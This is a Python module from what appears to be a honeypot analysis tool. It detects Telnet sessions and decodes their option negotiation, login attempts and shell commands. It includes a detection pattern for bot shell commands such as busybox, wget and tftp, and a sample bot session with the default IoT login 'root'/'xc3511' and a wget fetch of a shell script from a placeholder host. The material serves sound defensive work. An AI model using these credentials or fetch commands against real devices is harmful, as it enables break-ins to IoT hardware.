"""Telnet: options, logins typed at prompts, and the shell commands that follow."""

import re

from honeyguide.schema.words import Words
from honeyguide.streams.conversation import Conversation, Turn
from honeyguide.streams.embedded import urls
from honeyguide.streams.protocol import Decoded, Protocol, Sample
from honeyguide.streams.reader import Reader, plain, quoted
from honeyguide.streams.walk import Told, decoded

VERBS = {240: "SE", 241: "NOP", 242: "DM", 243: "BRK", 244: "IP", 245: "AO", 246: "AYT", 247: "EC", 248: "EL", 249: "GA", 250: "SB",
         251: "WILL", 252: "WON'T", 253: "DO", 254: "DON'T", 255: "IAC"}  # fmt: skip
OPTIONS = {
    0: "binary", 1: "echo", 3: "suppress go ahead", 5: "status", 6: "timing mark", 24: "terminal type", 31: "window size",
    32: "terminal speed", 33: "remote flow control", 34: "linemode", 35: "X display location", 36: "environment", 37: "authentication",
    38: "encryption", 39: "new environment",
}  # fmt: skip
_TYPED = re.compile(rb"[\x09\x0a\x0d\x20-\x7e\x80-\xff\0]+")
_SHELL = re.compile(
    rb"(?m)^(?:enable|system|shell|sh|linuxshell|/bin/busybox\b.*|busybox\b.*|cat /proc/\S+.*|wget .*|tftp .*|uname\b.*)\r?$"
)
_SECOND = re.compile(rb"\s*[^\r\n]{1,64}\r?\n[^\r\n]{0,64}\r?\n")
_WORDS = frozenset(("enable", "system", "shell", "sh", "linuxshell", "development", "exit", "quit", "help"))
_LINE_END = re.compile(rb"\r\n|\r\x00|\n|\r")
_LINE = 4096
_PORTS = (23, 2323, 2223, 23231, 37215)


def sniff(conversation: Conversation) -> float:
    """Commands of the protocol itself; else a shell's commands, or typed lines on a port of Telnet's."""
    head = conversation.inbound[:2000]
    if len(head) >= 3 and head[0] == 255 and 251 <= head[1] <= 254 and head[2] < 140:
        return 0.96
    if head[:2] == b"\xff\xfa":
        return 0.9
    typed = bool(head) and _TYPED.fullmatch(head) is not None
    shells = len(_SHELL.findall(head.replace(b"\r", b"")))
    if typed and shells >= 2:
        return 0.9
    if typed and conversation.local_port in _PORTS and b"HTTP/" not in head and _SECOND.match(head):
        return 0.65
    answer = conversation.outbound[:400]
    if not head and answer[:1] == b"\xff" and len(answer) > 2 and 251 <= answer[1] <= 254:
        return 0.9
    return 0.7 if typed and (b"login:" in answer.lower() or b"\xff\xfd" in answer[:20]) else 0.0


def decode(conversation: Conversation) -> Decoded:
    """Options; the first two lines as a login where they can be one; every later line as a command."""
    return decoded("telnet", conversation, _piece, "Telnet")


def _piece(reader: Reader, told: Told) -> str:
    if reader.peek(1) == b"\xff" and reader.left > 1:
        return _option(reader, told)
    window = reader.data[reader.at : min(reader.end, reader.at + _LINE)]
    text = window.partition(b"\xff")[0] or window
    line_end = _LINE_END.search(text)
    data = reader.raw("text", line_end.end() if line_end else len(text))
    line = plain(data.strip(b"\r\n\0"))
    if reader.direction == "in" and line:
        _typed(line, told)
    return quoted(line) or "empty line"


def _typed(line: str, told: Told) -> None:
    """The lines before the first command are a name and a password; bots send them blindly, so no prompt is waited for."""
    lines: list[str] = told.state.setdefault("lines", [])
    if len(lines) < 2 and line not in _WORDS and "/" not in line and " " not in line.strip():
        lines.append(line)
        if len(lines) == 2:
            told.login(lines[0], lines[1])
            told.fields["user.name"] = lines[0]
            told.point(f"login '{quoted(lines[0], 40)}' / '{quoted(lines[1], 40)}'")
        return
    if len(lines) == 1:
        told.point(f"'{quoted(lines[0], 40)}'")
    lines += [""] * (2 - len(lines))
    told.commands.append(line)
    told.urls += urls(line.encode())
    told.point(quoted(line, 80))


def _option(reader: Reader, told: Told) -> str:
    reader.u8("IAC", VERBS)
    verb = reader.u8("command", VERBS)
    name = VERBS.get(verb, str(verb))
    if 250 <= verb <= 254 and reader.left:
        option = reader.u8("option", OPTIONS)
        name += f" {OPTIONS.get(option, option)}"
        if reader.direction == "in":
            told.operations.append(name)
    if verb == 250:
        found = reader.data.find(b"\xff\xf0", reader.at, min(reader.end, reader.at + 4096))
        reader.raw("subnegotiation", (found if found >= 0 else min(reader.end, reader.at + 4096)) - reader.at)
        if found >= 0:
            reader.hexed("end", 2)
    if reader.direction == "in" and len(told.points) < 8:
        told.point(name)
    return name


_BOT = b"root\r\nxc3511\r\nenable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox PROBE\r\nwget http://192.0.2.7/x.sh\r\n"

PROTOCOL = Protocol(
    name="telnet",
    title=Words("Telnet", "Telnet"),
    sniff=sniff,
    decode=decode,
    samples=(
        Sample(
            Conversation((Turn("in", _BOT),), local_port=23),
            "login 'root' / 'xc3511', enable, system, shell, sh, /bin/busybox PROBE",
            {"user.name": "root"},
        ),
        Sample(
            Conversation((Turn("in", b"\xff\xfb\x18\xff\xfa\x18\0xterm\xff\xf0"),)),
            "WILL terminal type, SB terminal type",
            {"honeypot.operation": ["WILL terminal type", "SB terminal type"]},
        ),
    ),
    ports=_PORTS,
    source="RFC 854, RFC 855",
)
